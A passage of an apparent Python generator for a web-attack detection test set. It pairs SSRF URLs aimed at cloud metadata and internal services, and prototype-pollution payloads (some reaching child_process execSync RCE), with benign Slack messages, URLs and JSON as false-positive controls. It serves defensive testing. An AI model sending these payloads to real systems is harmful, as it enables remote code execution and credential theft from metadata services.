    "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/",
    "http://0x7f.1:2375/containers/json",
    "http://lvh.me:8080/actuator/env",
    "http://customer1.app.127.0.0.1.nip.io:9200/_cat/indices",
    "http://instance-data.ec2.internal/latest/meta-data/",
]

# --------------------------------------------------------------------------------------- generic / pollution
# A query-string payload (bracket or dot names) goes into the query and form as written, and as the nested
# JSON document qs would build into the JSON body, an Express `j:` JSON cookie and a JSON header; a JSON
# payload goes into those raw, and into the query and form as a `filter` parameter an API parses.
POLLUTION = [
    "__proto__[isAdmin]=true",
    "user[__proto__][role]=admin",
    "__proto__.admin=1",
    "constructor[prototype][isAdmin]=1",
    "profile[constructor][prototype][verified]=true",
    "a.constructor.prototype.polluted=1",
    "%5F%5Fproto%5F%5F[admin]=1",
    "__pro%74o__[admin]=1",
    "__proto__%5Badmin%5D=1",
    "settings[__proto__][theme]=dark&settings[__proto__][isAdmin]=1",
    "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "__proto__[client]=1&__proto__[escapeFunction]=JSON.stringify;process.mainModule.require('child_process')"
    ".exec('id')",
    "__proto__[sourceURL]=\nreturn process.mainModule.require('child_process').execSync('id')//",
    "__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process').execSync('id')",
    "__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id')"
    ".toString())//&__proto__[NODE_OPTIONS]=--require /proc/self/cmdline",
    "__proto__[json spaces]=10",
    "__proto__[status]=510",
    "__proto__[exposedHeaders]=X-Polluted",
    "a[b][__proto__][c]=1",
    "__proto__[toString]=1",
    "x[constructor][prototype][allowedTags][]=script",
    "__proto__[headers][X-Forwarded-For]=127.0.0.1",
    '{"__proto__":{"isAdmin":true}}',
    '{"user":{"name":"x","__proto__":{"role":"admin"}}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    r'{"\u005f\u005fproto\u005f\u005f":{"admin":true}}',
    r'{"__pro\u0074o__":{"polluted":1}}',
    '{"a":[{"b":{"__proto__":{"c":1}}}]}',
    '{"__proto__":{"outputFunctionName":"_x;return process.mainModule.require(\'child_process\')'
    '.execSync(\'id\');//"}}',
    '{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=203.0.113.7:9229"}}',
    '{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":"NumberLiteral",'
    '"value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],"loc":{"start":0,"end":0}}]}}',
    '{"constructor":{"prototype":{"env":{"EVIL":"console.log(require(\'child_process\').execSync(\'id\')'
    '.toString())//"},"NODE_OPTIONS":"--require /proc/self/environ"}}}',
    '{"__proto__":{"__proto__":{"x":1}}}',
    r'{"prefs":{"__proto__":{"sourceURL":"\nreturn process.mainModule.require(\"child_process\").execSync(\"id\")"}}}',
    '{"__proto__":{"allowedTags":["img","script"]}}',
    '{"__proto__":{"polluted":"yes"},"name":"ann"}',
    '{"x":{"constructor":{"prototype":{"admin":1}}}}',
]

FAMILIES: dict[str, dict[str, list[str]]] = {
    "rce": {"unix": UNIX, "windows": WINDOWS},
    "java": {"jndi": JNDI, "el": EL, "deser": DESER},
    "generic": {"nodejs": NODEJS, "ssrf": SSRF, "pollution": POLLUTION},
}
PARAMS: dict[str, list[str]] = {
    "rce": ["host", "ip", "file", "target", "cmd", "dir", "name", "q"],
    "java": ["q", "name", "data", "template", "expr", "state", "filter", "redirect"],
    "generic": ["url", "q", "callback", "data", "webhook", "name", "image", "next"],
}


def _qs_encode(qs: str) -> str:
    """The query string as sent: brackets, dots and the payload's own %-escapes kept, the rest escaped."""
    parts = []
    for part in qs.split("&"):
        name, _, value = part.partition("=")
        parts.append(urllib.parse.quote(name, safe="[]%.") + "=" + urllib.parse.quote(value, safe="%"))
    return "&".join(parts)


def _qs_json(qs: str) -> str:
    """The nested document the qs parser (brackets and allowDots) builds from the query string, as JSON text;
    a character the payload %-escapes in a name is \\u-escaped in the JSON key (JSON.parse decodes both)."""
    doc: dict[str, Any] = {}
    for part in qs.split("&"):
        raw, _, value = part.partition("=")
        raw = re.sub(r"%5[bB]", "[", re.sub(r"%5[dD]", "]", raw))
        is_list = raw.endswith("[]")
        keys = [re.sub(r"%([0-9A-Fa-f]{2})", lambda m: "\\u00" + m.group(1).lower(), k)
                for k in (raw[:-2] if is_list else raw).replace("]", "").replace("[", ".").split(".")]
        node = doc
        for key in keys[:-1]:
            node = node.setdefault(key, {})
        node[keys[-1]] = [urllib.parse.unquote(value)] if is_list else urllib.parse.unquote(value)
    return _dump(doc)


def _dump(node: Any) -> str:
    """JSON text whose keys are written as they are (already JSON-escaped)."""
    if isinstance(node, dict):
        return "{" + ", ".join(f'"{k}": {_dump(v)}' for k, v in node.items()) + "}"
    return json.dumps(node)


def _pollution(place: str, payload: str) -> dict[str, Any]:
    is_json = payload.startswith("{")
    doc_text = payload if is_json else _qs_json(payload)
    if place == "query":
        qs = "filter=" + urllib.parse.quote(payload, safe="") if is_json else _qs_encode(payload)
        return _get(f"/api/users?{qs}&page=1")
    if place == "form":
        body = "csrf_token=t0k3n&" + ("filter=" + urllib.parse.quote(payload, safe="") if is_json
                                      else _qs_encode(payload))
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {"User-Agent": UA, "Accept": "text/html",
                            "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "json":
        return {**_json("/api/users", {}), "body": doc_text}
    if place == "cookie":
        return {**_get("/api/users?page=1"), "headers": {
            "User-Agent": UA, "Accept": "application/json",
            "Cookie": "session=abc123; prefs=" + urllib.parse.quote("j:" + doc_text, safe="")}}
    return {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                       "X-User-Prefs": doc_text.replace("\n", "\\n")}}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for category, subs in FAMILIES.items():
        params = PARAMS[category]
        for sub, payloads in subs.items():
            for i, p in enumerate(payloads):
                for place, name in three_places(i, params):
                    n += 1
                    rec = _pollution(place, p) if sub == "pollution" else _place(place, name, p)
                    yield {**rec, "id": f"eighth-{category}-{n:04d}", "category": category, "sub": sub,
                           "placement": place, "payload": p}


# -------------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    # shell one-liners
    "to find what is eating the disk: `du -sh /var/log/* | sort -h | tail`",
    "quick fix: `kubectl -n payments rollout restart deploy/api && kubectl -n payments get pods -w`",
    "`grep -rn 'TODO' src/ | wc -l` says 312, lol",
    "run `find . -name '*.pyc' -delete` before you rebuild",
    "the cron job does `for f in *.log; do gzip \"$f\"; done` at 3am",
    "can someone check `systemctl status nginx` on edge-03?",
    "the build script uses ${BUILD_NUMBER:-local} for the image tag",
    "add `export PATH=$HOME/.local/bin:$PATH` to your .bashrc",
    "`curl -s https://api.github.com/repos/acme/api/releases/latest | jq -r .tag_name` gives the version",
    "`docker ps --format '{{.Names}}'` lists only the names",
    "`ssh -J bastion.corp db-replica-2.internal` works now, thanks Sam",
    "`tail -f /var/log/app/error.log | grep -i timeout` while you reproduce it",
    "please put `set -euo pipefail` at the top of every script",
    "`awk -F, '{print $3}' export.csv | sort | uniq -c` for the counts per country",
    "use `$(date +%F)` in the backup file name so they sort",
    "brace expansion is handy: `mkdir -p src/{api,web,worker}`",
    "`cp config.yml{,.bak}` before you edit it",
    "`echo $SHELL` prints /bin/zsh on the new laptops",
    "`sudo apt-get update && sudo apt-get install -y jq` on the runner image",
    "to peek at the token claims: `cut -d. -f2 <<< \"$TOKEN\" | base64 -d | jq .`",
    "`nc -zv db-primary.internal 5432` says succeeded, so it's not the firewall",
    "`openssl s_client -connect api.example.com:443 -servername api.example.com` shows the old chain",
    "`ls -la ~/.ssh` and check the perms are 600",
    "`xargs -n1 -P8 curl -sO < urls.txt` downloads them in parallel",
    "`git log --oneline --since='2 weeks ago' | wc -l` = 87 commits",
    "`sed -i 's/v1.4.2/v1.4.3/' chart/values.yaml` then open the PR",
    "`watch -n5 'kubectl get hpa -A'` during the load test",
    "`history | grep ansible` if you forgot the exact command",
    "`rsync -avz --delete build/ deploy@static-1:/srv/www/` is what the job runs",
    "`jq '.items[] | select(.status==\"failed\") | .id' report.json`",
    "`ps aux --sort=-%mem | head` shows the java process at 3G",
    "on mac `pbpaste | wc -c` to count the clipboard",
    "`tar czf logs-$(hostname).tgz /var/log/app` and attach it to the ticket",
    "`uname -a` on the new nodes says 6.8, kernel upgrade is done",
    "`whoami` in the container prints app, not root, good",
    "`env | grep -i proxy` shows nothing, so it's not the proxy",
    "`id -u` returns 1000 in the dev container",
    "`cat /etc/os-release` says Debian 12 on the base image",
    # PowerShell and cmd
    "`Get-ChildItem -Recurse -Filter *.log | Remove-Item` cleans the build agent",
    "`Get-Service -Name W3SVC | Restart-Service` on the IIS box fixed it",
    "set `$env:ASPNETCORE_ENVIRONMENT = \"Staging\"` before dotnet run",
    "`Set-ExecutionPolicy -Scope CurrentUser RemoteSigned` if the script won't run",
    "`Invoke-RestMethod -Uri https://api.example.com/health` returns ok from the office",
    "`winget install Git.Git` on the new windows laptops",
    "in cmd it's `set PATH=%PATH%;C:\\tools` but use setx for permanent",
    "`echo %USERPROFILE%` shows C:\\Users\\ann on mine",
    "`dir /s /b *.config` finds them all",
    "`ipconfig /flushdns` fixed it for me",
    "verify the download with `certutil -hashfile installer.msi SHA256`",
    "`robocopy C:\\build \\\\fileserver\\drops /MIR` is the nightly copy",
    "`Test-NetConnection sql01.corp.local -Port 1433` fails from the jump host",
    "`Get-EventLog -LogName System -Newest 20` shows the reboot at 02:14",
    "the installer wants `msiexec /i agent.msi /qn` for silent mode",
    "`net use Z: \\\\fileserver\\share` maps the drive",
    # Java stack traces and config
    "java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"name\" is null\n"
    "\tat com.acme.users.UserService.create(UserService.java:42)",
    "Caused by: java.net.ConnectException: Connection refused\n\tat java.base/sun.nio.ch.Net.connect0(Native Method)",
    "org.springframework.beans.factory.BeanCreationException: Error creating bean with name 'dataSource'",
    "`spring.datasource.url=${DB_URL:jdbc:postgresql://localhost:5432/app}` in application.properties",
    "`@Value(\"${app.retry.max:3}\")` picks the default if the property is unset",
    "`@Value(\"#{systemProperties['user.region']}\")` is SpEL, the ${} one is a property placeholder",
    "`@PreAuthorize(\"hasRole('ADMIN')\")` on the controller class",
    "log4j2.xml uses ${env:LOG_LEVEL:-INFO} for the root logger level",
    "`<property name=\"logPath\" value=\"${sys:catalina.base}/logs\"/>` in the logback file",
    "Jackson: `@JsonTypeInfo(use = JsonTypeInfo.Id.NAME, property = \"type\")` with explicit subtypes is fine",
    "`mvn -q -DskipTests package && java -jar target/app.jar --spring.profiles.active=dev`",
    "added `-XX:+HeapDumpOnOutOfMemoryError -Xmx2g` to JAVA_OPTS",
    "`Runtime.getRuntime().availableProcessors()` returns 2 in the container",
    "the thymeleaf template uses th:text=\"${user.name}\" everywhere",
    "the JSF page has #{bean.property} bindings, do not touch them",
    "Jenkinsfile: `sh \"./gradlew test -Pversion=${env.BUILD_NUMBER}\"`",
    "com.fasterxml.jackson.databind.exc.InvalidTypeIdException: Could not resolve type id 'premium'",
    "java.lang.ClassNotFoundException: org.postgresql.Driver at java.base/java.net.URLClassLoader.findClass",
    "the struts app is finally gone, we are on Spring MVC now",
    "the log4j upgrade to 2.23.1 is merged",
    "ObjectMapper with `activateDefaultTyping` is banned in review, use @JsonSubTypes",
    "the serialVersionUID warning in the DTO is harmless",
    "Groovy: `def names = users.collect { it.name }` reads nicer",
    # Node snippets
    "`const { execFile } = require('node:child_process')` with an args array, no shell",
    "`Object.create(null)` for the lookup map avoids the __proto__ key problem",
    "`JSON.parse(body, (k, v) => k === '__proto__' ? undefined : v)` is our reviver",
    "`const port = process.env.PORT ?? 3000`",
    "`npm ci && npm run build` in the Dockerfile",
    "`new Function('a', 'b', 'return a + b')` is banned by our eslint config",
    "class Foo extends Bar { constructor() { super(); this.items = []; } }",
    "`Object.getPrototypeOf(obj) === Foo.prototype` is true here",
    "use `structuredClone` instead of the JSON round trip",
    "`require('dotenv').config()` has to run before the db module loads",
    "`app.use(express.json({ limit: '1mb' }))` fixed the 413s",
    "TypeError: Cannot read properties of undefined (reading 'constructor')",
    "`process.on('unhandledRejection', err => logger.error(err))` is in index.ts now",
    "qs has allowPrototypes false by default, good",
    "the vm module is not a sandbox, per the docs",
    "`import { readFile } from 'node:fs/promises'` works in the ESM build",
    # internal hosts and ops talk
    "the metadata service at 169.254.169.254 is blocked from pods now via NetworkPolicy",
    "IMDSv2 is enforced on all instances, hop limit 1",
    "grafana.internal.acme.io is down, prometheus-0.monitoring.svc.cluster.local still scrapes",
    "redis at 10.20.3.14:6379 is the old one, use redis.prod.internal",
    "http://localhost:8080/actuator/health returns UP locally",
    "the kube API is https://kubernetes.default.svc from inside the cluster",
    "jenkins.corp:8443 cert expired again",
    "`dig +short api.internal @10.0.0.2` returns two addresses",
    "consul listens on 127.0.0.1:8500 on every node",
    "the webhook callback URL must be https, the provider rejects http",
    "metadata.google.internal timeouts were the DNS policy, fixed",
    "the ECS task role creds come from 169.254.170.2, not the instance",
    "172.16.0.0/12 is the VPN range, 10.0.0.0/8 the VPCs",
    "ssrf review of the image proxy is done, it only allows our CDN hosts",
    "we block private ranges in the link preview fetcher",
    "nip.io is handy for local TLS tests: app.127.0.0.1.nip.io",
    "ping me when the build is green, I'll run the smoke test",
    "the host field in the inventory is the FQDN, not the IP",
    "the IPv6 rollout: [2001:db8::10] is the test LB",
    "keycloak at https://sso.corp/auth/realms/main is the IdP",
    "mTLS between the gateway and upstream is on in staging",
    "the class of service for the support line changed to gold",
    "type `/remind me to rotate the keys in 2 weeks`",
    "who has the prototype of the new dashboard? looks great",
]

PUBLIC_URLS = [
    "https://hooks.slack.com/services/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",
    "https://discord.com/api/webhooks/1234567890123/AbCdEfGhIjKlMnOp",
    "https://api.github.com/repos/acme/api/hooks",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/constructor",
    "https://www.gnu.org/software/bash/manual/bash.html#Brace-Expansion",
    "https://github.com/FasterXML/jackson-databind/issues",
    "https://example.com/callback?code=abc123&state=xyz",
    "https://app.example.com/oauth/callback",
    "https://stripe.com/docs/webhooks",
    "https://api.example.com/v2/hosts?type=prod&page=2",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.google.com/?q=52.52,13.405",
    "https://zoom.us/j/1234567890?pwd=abcDEF123",
    "https://bit.ly/3xYzAbc",
    "https://gist.github.com/ann/0123456789abcdef",
    "https://pypi.org/project/requests/",
    "https://www.npmjs.com/package/qs",
    "https://mvnrepository.com/artifact/org.apache.logging.log4j/log4j-core/2.23.1",
    "https://hub.docker.com/_/nginx",
    "https://status.example.com/incidents/abc123",
    "https://calendly.com/ann-lee/30min",
    "https://www.linkedin.com/in/ann-lee-123/",
    "https://ann.dev/blog/2024/prototype-chains",
    "https://medium.com/@ann/why-constructor-injection-beats-field-injection-1a2b3c",
    "https://stackoverflow.com/questions/1234567/how-to-escape-quotes-in-bash",
    "https://en.wikipedia.org/wiki/Log4Shell",
    "https://portswigger.net/web-security/ssrf",
    "https://www.cloudflare.com/learning/dns/what-is-dns/",
    "https://xn--bcher-kva.example/",
    "https://münchen.example/",
    "https://user.example.com:8443/path?callback=https%3A%2F%2Fapp.example.com%2Fdone",
    "https://outlook.office.com/webhook/0a1b2c3d-1111-2222-3333-444455556666@example.com/IncomingWebhook/abc/def",
    "https://registry.terraform.io/providers/hashicorp/aws/latest/docs",
    "https://groovy-lang.org/syntax.html",
    "https://docs.oracle.com/javase/8/docs/platform/serialization/spec/protocol.html",
    "https://yaml.org/spec/1.2.2/",
    "https://www.example.org/search?q=constructor+prototype&lang=en",
]

PROSE = [
    "Please reset the password for the user at host reception-pc-12",
    "Could you check why the callback URL for our webhook returns 404?",
    "The class type field was set to premium but the invoice shows basic",
    "Who owns the prototype for the new checkout page?",
    "Constructor Group GmbH, Berlin - invoice 2024-118",
    "search for ann & bob | sort by date",
    "customers who ordered > 3 times; exclude test accounts",
    "the ping from the office in Lyon takes 120 ms",
    "Java Developer (m/w/d) application from Tom",
    "Shell Deutschland GmbH, fuel cards",
    "Cat & Dog Supplies Ltd.",
    "Echo Park branch, 1500 Sunset Blvd",
    "Order #1234 - 2x USB-C cable (1m), 1x adapter",
    "type: refund; reason: damaged on arrival",
    "Python/Perl/Bash trainer for the onboarding week",
    "net user count went up 5% after the campaign",
    "wget and curl are both installed on the kiosk machines",
    "the url field is empty for 40 users",
    "who am i supposed to contact about the VPN?",
    "cmd key is stuck on the MacBook at reception",
    "Power Shell Energy Ltd (supplier #77)",
    "Runtime exceeded: report took 12 min",
    "host: Lisa Chen; guests: 14",
    "metadata missing on 3 product pages",
    "the internal audit team needs read access",
    "Dear team, the ${firstname} placeholder shows up raw in the welcome email",
    "Reference: #{order} not replaced in the SMS template",
    "Node 3 of the cluster, rack B",
    "Spring sale 2024 - 20% off",
    "Groovy Records Inc. (music label)",
    "Log4 Design Studio, Lisbon",
    "Prototype Lane 10, 8000 Zurich",
    "contractor class B, insured until 2025",
    "ldap sync failed for 2 users in Sales",
    "serialized numbers on the returned laptops: C02X1, C02X2",
    "cloud metadata tags for cost centers",
    "redirect customers from /old-shop to /shop",
    "export users where country = DE and plan = pro",
    "Ann O'Neil (ann@example.org) - duplicate account",
    "invoice 2024/07 for Java training, 3 days",
    "the proto type of the new badge reader",
    "environment variable PATH on the kiosk is wrong",
]

JSON_DOCS: list[tuple[str, dict[str, Any]]] = [
    ("/api/users", {"name": "Ann", "profile": {"type": "developer", "class": "senior", "prototype": "checkout-v2"}}),
    ("/api/users", {"@context": "https://schema.org", "@type": "Person", "name": "Ann Lee", "url": "https://ann.dev"}),
    ("/api/users", {"@context": "https://schema.org", "@type": "Organization", "name": "Acme GmbH",
                    "url": "https://acme.example", "logo": "https://acme.example/logo.png"}),
    ("/api/users/42", {"webhook": {"url": "https://hooks.example.com/ingest", "callback": "https://app.example.com/cb",
                                   "events": ["order.created", "order.paid"]}}),
    ("/api/users/42", {"integration": {"host": "db-replica-2.internal", "port": 5432, "type": "postgres"}}),
    ("/api/users", {"name": "Charles", "favorite_team": {"constructor": "Ferrari", "driver": "Leclerc"}}),
    ("/api/users/42", {"notification_template": "Hello ${first_name}, your order #{order_id} has shipped"}),
    ("/api/users", {"filter": {"type": "and", "rules": [{"field": "class", "op": "eq", "value": "gold"}]}}),
    ("/api/users", {"name": "Ben", "school": {"class": "3B", "type": "public"}}),
    ("/api/users/42", {"settings": {"theme": "dark", "callback_url": "https://app.example.com/done"}}),
    ("/api/users", {"event": {"type": "page_view", "url": "https://shop.example.com/p/127", "referrer": ""}}),
    ("/api/users", {"bio": "I build prototypes for a living", "title": "Prototype engineer"}),
    ("/api/users/42", {"links": [{"rel": "self", "href": "https://api.example.com/v1/users/42"},
                                 {"rel": "avatar", "href": "https://cdn.example.com/a/42.png"}]}),
    ("/api/users", {"address": {"type": "billing", "street": "10 Prototype Lane", "city": "Zurich"}}),
    ("/api/users/42", {"oauth": {"redirect_uri": "https://app.example.com/oauth/callback", "state": "af0ifjsldkj"}}),
    ("/api/users", {"device": {"type": "laptop", "host": "ann-mbp.local", "os": "macOS 14.5"}}),
    ("/api/users/42", {"preferences": {"constructor_view": "grid", "prototype_banner": False}}),
    ("/api/users", {"name": "Dana", "job": {"title": "Java developer", "stack": ["Spring", "Kotlin", "Groovy"]}}),
    ("/api/users", {"message": {"type": "text", "body": "see you at 10:30, room 127"}}),
    ("/api/users/42", {"ci": {"provider": "github", "status_url": "https://github.com/acme/api/actions/runs/123"}}),
    ("/api/users", {"product": {"@type": "Product", "name": "USB-C cable", "sku": "CBL-1M",
                                "offers": {"@type": "Offer", "price": "9.90", "priceCurrency": "EUR"}}}),
    ("/api/users/42", {"contact": {"type": "phone", "value": "+49 30 1234567"}}),
    ("/api/users", {"course": {"name": "Node.js basics", "modules": ["require and modules", "process and env",
                                                                      "child processes"]}}),
    ("/api/users/42", {"proxy": {"host": "proxy.corp.example", "port": 3128, "no_proxy": "localhost,127.0.0.1"}}),
    ("/api/users", {"shipping": {"carrier": "DHL", "tracking_url": "https://www.dhl.com/track?id=JD0146000"}}),
    ("/api/users/42", {"webhook": {"url": "https://discord.com/api/webhooks/1234/abcd", "type": "discord"}}),
    ("/api/users", {"name": "Eve", "skills": {"shell": "advanced", "powershell": "basic", "java": "expert"}}),
    ("/api/users/42", {"class_name": "Premium", "type_id": 3, "constructor_id": 17}),
    ("/api/users", {"recipe": {"name": "Prototype soup", "steps": ["chop", "boil", "serve"]}}),
    ("/api/users/42", {"alert": {"type": "threshold", "host": "api-7.prod", "metric": "p99_ms", "value": 850}}),
    ("/api/users", {"support_ticket": {"subject": "Login loop", "body": "After the update I get redirected to "
                                                                        "/login?next=/dashboard forever"}}),
    ("/api/users/42", {"avatar": {"url": "https://cdn.example.com/a/42.png", "type": "image/png"}}),
    ("/api/users", {"sso": {"type": "saml", "metadata_url": "https://idp.example.com/metadata.xml"}}),
    ("/api/users/42", {"calendar": {"callback": "https://app.example.com/cal/hook", "tz": "Europe/Berlin"}}),
    ("/api/users", {"tags": ["java", "spring", "log4j", "jackson"], "level": "senior"}),
    ("/api/users/42", {"env_vars": {"NODE_ENV": "production", "LOG_LEVEL": "info"}}),
    ("/api/users", {"car": {"make": "Toyota", "class": "compact", "type": "hybrid"}}),
    ("/api/users/42", {"job": {"type": "export", "format": "csv", "notify_url": "https://hooks.example.com/done"}}),
    ("/api/users", {"feedback": "The constructor of the report form is confusing, the type dropdown is empty"}),
    ("/api/users/42", {"network": {"host": "10.0.4.21", "gateway": "10.0.4.1", "dns": ["10.0.0.2"]}}),
    ("/api/users", {"book": {"title": "Java Concurrency in Practice", "type": "paperback", "isbn": "0321349601"}}),
    ("/api/users/42", {"integration": {"type": "jira", "url": "https://acme.atlassian.net", "project": "OPS"}}),
    ("/api/users", {"pet": {"type": "cat", "name": "Echo"}}),
    ("/api/users/42", {"expression": "price * quantity", "type": "formula"}),
    ("/api/users", {"cron": {"schedule": "*/5 * * * *", "type": "report"}}),
    ("/api/users/42", {"redirect": "https://shop.example.com/thanks", "callback": "renderCart"}),
    ("/api/users", {"document": {"@type": "Article", "headline": "Prototype pollution explained",
                                 "url": "https://ann.dev/blog/prototype-pollution"}}),
    ("/api/users/42", {"deploy": {"host": "web-3.prod.internal", "status": "ok", "version": "1.4.3"}}),
    ("/api/users", {"lesson": {"topic": "classes and constructors", "language": "TypeScript"}}),
    ("/api/users/42", {"metadata": {"source": "import", "type": "csv", "rows": 1200}}),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, "eighth-ben")
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, "eighth-ben", n)
    n = yield from numbered((_json(uri, doc) for uri, doc in JSON_DOCS), "eighth-ben-json", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
